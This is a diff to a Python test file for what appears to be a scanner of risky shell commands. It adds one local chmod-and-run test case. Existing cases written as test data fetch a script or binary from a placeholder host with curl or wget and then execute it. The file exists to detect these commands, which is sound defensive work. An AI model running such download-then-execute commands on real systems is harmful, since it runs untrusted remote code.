@@ -102,6 +102,7 @@ def test_unparsable_python_is_reported_and_still_pattern_scanned(tmp_path: Path)
         ),
         ("curl -LO https://x.example/setup.sh\nbash setup.sh\n", {("download-then-run", 2)}),
         ("wget https://x.example/tool\nchmod +x tool; ./tool --go\n", {("download-then-run", 2)}),
+        ("chmod +x build/tool\n./build/tool --fast\n", {("dynamic-code", 2)}),
     ],
 )
 def test_shell_tokens(script: str, expected: set[tuple[str, int]]) -> None:
